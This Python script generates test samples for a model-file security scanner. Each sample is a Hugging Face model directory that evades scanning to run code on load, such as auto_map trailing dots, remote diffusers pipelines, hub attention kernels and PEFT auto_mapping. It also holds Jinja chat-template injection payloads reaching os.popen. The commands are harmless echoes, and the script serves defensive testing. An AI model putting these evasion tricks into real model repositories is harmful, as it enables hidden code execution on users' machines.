#!/usr/bin/python3
"""Writes samples/hf-bypass/: model directories whose loading imports code (or hands a chat
template sandbox-escape names) in ways that once scanned `clean`:

- auto-map-trailing-dot/: config.json `auto_map` values ending in a dot (`modeling_evil.`): transformers
  splits `module.Class` on the dot, imports modeling_evil.py, then fails on the empty class name.
- auto-map-trailing-dot-external/: the same with another repository (`org/evil--evil_mod.`).
- auto-map-nested/: processor_config.json with `auto_map` inside `image_processor`, `feature_extractor`
  and `video_processor` (what AutoImageProcessor / AutoFeatureExtractor / AutoVideoProcessor read).
- auto-map-dict/: preprocessor_config.json whose AutoImageProcessor value is a `{pil, torchvision}` dict
  (`_resolve_auto_map_class_ref` in image_processing_auto.py).
- auto-map-deep-json/: a config.json nested 600 levels deep (Python's json takes it, modelgate's parser
  stops at 512) whose auto_map names another repository.
- st-modules-external/: sentence-transformers modules.json whose `type` is `org/repo--module.Class`.
- st-modules-local/: modules.json naming a module shipped in the directory (custom_st.py).
- st-modules-standard/: a plain sentence-transformers layout (must stay clean).
- jinja-nul/: chat_template.jinja with a NUL byte inside a Jinja comment before an SSTI payload.
- jinja-yaml/: chat_template.jinja whose first line is `%YAML 1.2`.
- jinja-magic-prefix/: chat_template.jinja opening with a GIF magic (the sniffer sees an image).
- token-subscript/: tokenizer_config.json whose special tokens are `__globals__`, `__builtins__` ...
  and whose chat template subscripts by them (`raise_exception[bos_token]`).
- tokens-language-codes/: M2M100-style `__en__` special tokens and a benign template (must stay clean).
- py-jinja-comment/: a modeling .py that opens with `{#` (a valid Python set display) and runs a command.
- peft-auto-mapping/: a PEFT adapter_config.json without task_type whose auto_mapping names a module
  outside transformers (AutoPeftModel.from_pretrained imports it and calls Class.from_pretrained).
- peft-auto-mapping-transformers/: the same naming transformers' BERT module, as PEFT records it
  (must stay clean); peft-lora/: a LoRA adapter config with a task_type (must stay clean).
- processor-audio-tokenizer/: processor_config.json whose audio_tokenizer names another repository,
  which AutoProcessor loads with AutoModel.from_pretrained.
- diffusers-remote-pipeline/: model_index.json whose _class_name is ["attacker/evil-pipeline", ...]:
  DiffusionPipeline.from_pretrained(..., trust_remote_code=True) imports that repository's pipeline.py.
- attn-kernel/: config.json whose attn_implementation is a hub kernel ("attacker/evil-kernel"):
  transformers downloads and imports it when the model is built (kernels.get_kernel).
- crossencoder-activation/: a CrossEncoder config.json whose activation function is "os.fork"
  (imported by name and called); crossencoder-torch/: the torch Sigmoid (must stay clean).
- diffusers-connected-prior/: a Kandinsky 2.2 combined pipeline whose README.md front matter names
  `prior: [attacker/unscanned-prior]`: DiffusionPipeline.from_pretrained loads that repository too
  (_load_connected_pipes, CONNECTED_PIPES_KEYS).
- diffusers-modular-spec/: modular_model_index.json whose `[library, Class, spec]` entries name an
  installed module as type_hint (imported when ModularPipeline is built) and another repository as
  pretrained_model_name_or_path (loaded by load_components()).
- diffusers-own-library-file/: model_index.json naming ["diffusers", "UNet2DModel"] with a
  unet/diffusers.py beside it: diffusers loads that file (a custom component) before its own library.

Payloads are harmless (`echo modelgate-bypass-sample`); nothing is executed here. Run from the
repository root with /usr/bin/python3.
"""
import json
import os
import shutil

OUT = os.path.join("samples", "hf-bypass")
SSTI = "{{ cycler.__init__.__globals__.os.popen('echo modelgate-bypass-sample').read() }}"
LOOP = "{% for m in messages %}{{ m.content }}{% endfor %}"
expected = {}


def put(path, data):
    full = os.path.join(OUT, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    mode = "wb" if isinstance(data, bytes) else "w"
    with open(full, mode) as f:
        f.write(data if isinstance(data, bytes) else data)


def put_json(path, value):
    put(path, json.dumps(value, indent=1) + "\n")


def expect(case, verdict, rules=(), absent=()):
    entry = {"verdict": verdict}
    if rules:
        entry["rules"] = list(rules)
    if absent:
        entry["absentRules"] = list(absent)
    expected[f"hf-bypass/{case}"] = entry


if os.path.isdir(OUT):
    shutil.rmtree(OUT)

put_json("auto-map-trailing-dot/config.json", {"model_type": "bert", "auto_map": {"AutoConfig": "modeling_evil.", "AutoModel": "modeling_evil."}})
put("auto-map-trailing-dot/modeling_evil.py", "class Evil:\n    pass\n")
expect("auto-map-trailing-dot", "suspicious", ["repo/remote-code"], ["repo/remote-code-missing"])

put_json("auto-map-trailing-dot-external/config.json", {"model_type": "bert", "auto_map": {"AutoConfig": "attacker/evil--evil_mod.", "AutoModel": "attacker/evil--evil_mod."}})
expect("auto-map-trailing-dot-external", "malicious", ["repo/remote-code-external"])

put_json("auto-map-nested/processor_config.json", {
    "processor_class": "LlavaProcessor",
    "image_processor": {"image_processor_type": "CLIPImageProcessor", "auto_map": {"AutoImageProcessor": "attacker/evil--image_processing_evil.EvilImageProcessor"}},
    "feature_extractor": {"auto_map": {"AutoFeatureExtractor": "feature_extraction_evil.Evil"}},
    "video_processor": {"auto_map": {"AutoVideoProcessor": "attacker/evil--video_processing_evil.Evil"}},
})
put_json("auto-map-nested/config.json", {"model_type": "llava"})
expect("auto-map-nested", "malicious", ["repo/remote-code-external", "repo/remote-code", "repo/remote-code-missing"])

put_json("auto-map-dict/preprocessor_config.json", {"auto_map": {"AutoImageProcessor": {"pil": "attacker/evil--evil_mod.Evil", "torchvision": "image_processing_evil.Evil"}}})
put("auto-map-dict/image_processing_evil.py", "import os\nos.system('echo modelgate-bypass-sample')\nclass Evil:\n    pass\n")
expect("auto-map-dict", "malicious", ["repo/remote-code-external", "repo/remote-code", "repo/risky-code"])

# Python's json takes 600 levels; modelgate's parser stops at 512 (repo/invalid-json) and reads the auto_map from the text.
deep = "[" * 600 + "]" * 600
put("auto-map-deep-json/config.json", '{"model_type": "bert", "auto_map": {"AutoConfig": "attacker/evil--evil_mod.Evil"}, "x": ' + deep + "}\n")
expect("auto-map-deep-json", "malicious", ["repo/invalid-json", "repo/remote-code-external"])

put_json("st-modules-external/modules.json", [{"idx": 0, "name": "0", "path": "", "type": "attacker/evil--evil_mod.Evil"}])
expect("st-modules-external", "malicious", ["repo/remote-code-external"])

put_json("st-modules-local/modules.json", [
    {"idx": 0, "name": "0", "path": "", "type": "custom_st.Transformer"},
    {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"},
])
put("st-modules-local/custom_st.py", "class Transformer:\n    pass\n")
put_json("st-modules-local/1_Pooling/config.json", {"word_embedding_dimension": 384, "pooling_mode_mean_tokens": True})
expect("st-modules-local", "suspicious", ["repo/remote-code"], ["repo/remote-code-missing"])

put_json("st-modules-standard/modules.json", [
    {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
    {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"},
    {"idx": 2, "name": "2", "path": "2_Normalize", "type": "sentence_transformers.models.Normalize"},
])
put_json("st-modules-standard/1_Pooling/config.json", {"word_embedding_dimension": 384, "pooling_mode_mean_tokens": True})
expect("st-modules-standard", "clean")

put_json("jinja-nul/tokenizer_config.json", {"tokenizer_class": "PreTrainedTokenizerFast", "unk_token": "[UNK]"})
put("jinja-nul/chat_template.jinja", (LOOP + "{#\0#}" + SSTI).encode())
put("jinja-nul/additional_chat_templates/tool_use.jinja", ("\0" + SSTI).encode())
expect("jinja-nul", "malicious", ["template/dunder-access"], ["format/unknown"])

put("jinja-yaml/chat_template.jinja", "%YAML 1.2\n" + SSTI + LOOP)
expect("jinja-yaml", "malicious", ["template/dunder-access"], ["yaml/malformed"])

# A GIF magic in front: the sniffer sees an image, transformers reads the file as template text.
put("jinja-magic-prefix/chat_template.jinja", "GIF89a" + SSTI + LOOP)
expect("jinja-magic-prefix", "malicious", ["template/dunder-access"])

put_json("token-subscript/tokenizer_config.json", {
    "tokenizer_class": "PreTrainedTokenizerFast",
    "unk_token": "[UNK]",
    "bos_token": "__globals__",
    "eos_token": "__builtins__",
    "sep_token": "__import__",
    "pad_token": "os",
    "cls_token": "popen",
    "chat_template": LOOP + "{% if add_generation_prompt %}{{ raise_exception[bos_token][eos_token][sep_token](pad_token)[cls_token]('echo modelgate-bypass-sample').read() }}{% endif %}",
})
expect("token-subscript", "malicious", ["template/dunder-access", "template/dunder-string"])

put_json("tokens-language-codes/tokenizer_config.json", {
    "tokenizer_class": "M2M100Tokenizer",
    "bos_token": "<s>",
    "eos_token": "</s>",
    "unk_token": "<unk>",
    "pad_token": "<pad>",
    "additional_special_tokens": ["__en__", "__fr__", "__de__"],
    "chat_template": "{{ bos_token }}" + LOOP + "{{ eos_token }}",
})
expect("tokens-language-codes", "clean")

put("py-jinja-comment/modeling_evil.py", "{#: 1}\nimport os\nos.system('echo modelgate-bypass-sample')\n")
expect("py-jinja-comment", "malicious", ["repo/python-file", "repo/risky-code"], ["format/extension-mismatch"])

LORA = {
    "base_model_name_or_path": "google-bert/bert-base-uncased",
    "bias": "none",
    "fan_in_fan_out": False,
    "inference_mode": True,
    "init_lora_weights": True,
    "lora_alpha": 16,
    "lora_dropout": 0.1,
    "modules_to_save": None,
    "peft_type": "LORA",
    "r": 8,
    "revision": None,
    "target_modules": ["query", "value"],
}
put_json("peft-auto-mapping/adapter_config.json", {**LORA, "task_type": None, "auto_mapping": {"base_model_class": "Evil", "parent_library": "evil_plugin.models"}})
expect("peft-auto-mapping", "suspicious", ["repo/installed-module-import"])

put_json("peft-auto-mapping-transformers/adapter_config.json", {**LORA, "task_type": None, "auto_mapping": {"base_model_class": "BertModel", "parent_library": "transformers.models.bert.modeling_bert"}})
expect("peft-auto-mapping-transformers", "clean")

put_json("peft-lora/adapter_config.json", {**LORA, "task_type": "SEQ_CLS"})
expect("peft-lora", "clean")

put_json("processor-audio-tokenizer/processor_config.json", {
    "processor_class": "HiggsAudioV2Processor",
    "audio_tokenizer": {"audio_tokenizer_class": "HiggsAudioV2TokenizerModel", "audio_tokenizer_name_or_path": "attacker/codec"},
})
expect("processor-audio-tokenizer", "suspicious", ["repo/external-model"])

put_json("diffusers-remote-pipeline/model_index.json", {"_class_name": ["attacker/evil-pipeline", "EvilPipeline"], "_diffusers_version": "0.30.0"})
expect("diffusers-remote-pipeline", "malicious", ["repo/remote-code-external"])

put_json("attn-kernel/config.json", {"model_type": "llama", "architectures": ["LlamaForCausalLM"], "attn_implementation": "attacker/evil-kernel"})
expect("attn-kernel", "malicious", ["repo/remote-code-external"])

put_json("crossencoder-activation/config.json", {"model_type": "bert", "architectures": ["BertForSequenceClassification"], "sbert_ce_default_activation_function": "os.fork"})
expect("crossencoder-activation", "suspicious", ["repo/installed-module-import"])

put_json("crossencoder-torch/config.json", {"model_type": "bert", "architectures": ["BertForSequenceClassification"], "sbert_ce_default_activation_function": "torch.nn.modules.activation.Sigmoid"})
expect("crossencoder-torch", "clean")

put_json("diffusers-connected-prior/model_index.json", {"_class_name": "KandinskyV22CombinedPipeline", "_diffusers_version": "0.30.0", "scheduler": ["diffusers", "DDPMScheduler"], "unet": ["diffusers", "UNet2DConditionModel"], "movq": ["diffusers", "VQModel"]})
put("diffusers-connected-prior/README.md", "---\nlicense: apache-2.0\nprior:\n- attacker/unscanned-prior\ntags:\n- text-to-image\n---\n# Kandinsky 2.2 decoder\n")
expect("diffusers-connected-prior", "suspicious", ["repo/external-model"])

put_json("diffusers-modular-spec/modular_model_index.json", {
    "_class_name": "StableDiffusionXLModularPipeline", "_diffusers_version": "0.35.0", "_blocks_class_name": "StableDiffusionXLAutoBlocks",
    "text_encoder": [None, None, {"pretrained_model_name_or_path": "attacker/unscanned", "subfolder": "text_encoder", "revision": None, "variant": None, "type_hint": ["evil_installed_module", "CLIPTextModel"]}],
    "unet": [None, None, {"pretrained_model_name_or_path": "attacker/unscanned", "subfolder": "unet", "revision": None, "variant": None, "type_hint": ["diffusers", "UNet2DConditionModel"]}],
})
expect("diffusers-modular-spec", "suspicious", ["repo/external-model", "repo/installed-module-import"])

put_json("diffusers-own-library-file/model_index.json", {"_class_name": "DDPMPipeline", "_diffusers_version": "0.30.0", "scheduler": ["diffusers", "DDPMScheduler"], "unet": ["diffusers", "UNet2DModel"]})
put_json("diffusers-own-library-file/unet/config.json", {"_class_name": "UNet2DModel", "_diffusers_version": "0.30.0", "sample_size": 32})
put("diffusers-own-library-file/unet/diffusers.py", "from diffusers import UNet2DModel as _Base\n\n\nclass UNet2DModel(_Base):\n    pass\n")
expect("diffusers-own-library-file", "suspicious", ["repo/remote-code"])

with open(os.path.join(OUT, "expected.json"), "w") as f:
    json.dump(expected, f, indent=1)
    f.write("\n")
